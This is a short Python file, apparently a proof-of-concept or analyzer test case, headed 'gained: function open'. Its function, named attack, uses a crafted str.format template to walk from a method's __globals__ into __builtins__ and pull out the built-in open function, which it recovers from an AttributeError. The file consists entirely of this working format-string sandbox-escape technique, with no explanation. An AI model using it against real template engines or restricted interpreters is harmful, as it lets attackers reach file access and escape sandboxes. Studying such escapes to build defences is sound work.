# gained: function open
from typing import Any, cast


class Own:
    def go(self) -> None:
        return None


def attack(path: str) -> Any:
    under = chr(95) * 2
    template = TABLE[0] % {"u": under}
    try:
        template.format(Own())
    except AttributeError as error:
        return cast(Any, error).obj


TABLE = ["{0.go.%(u)sglobals%(u)s[%(u)sbuiltins%(u)s][open].nothing}"]
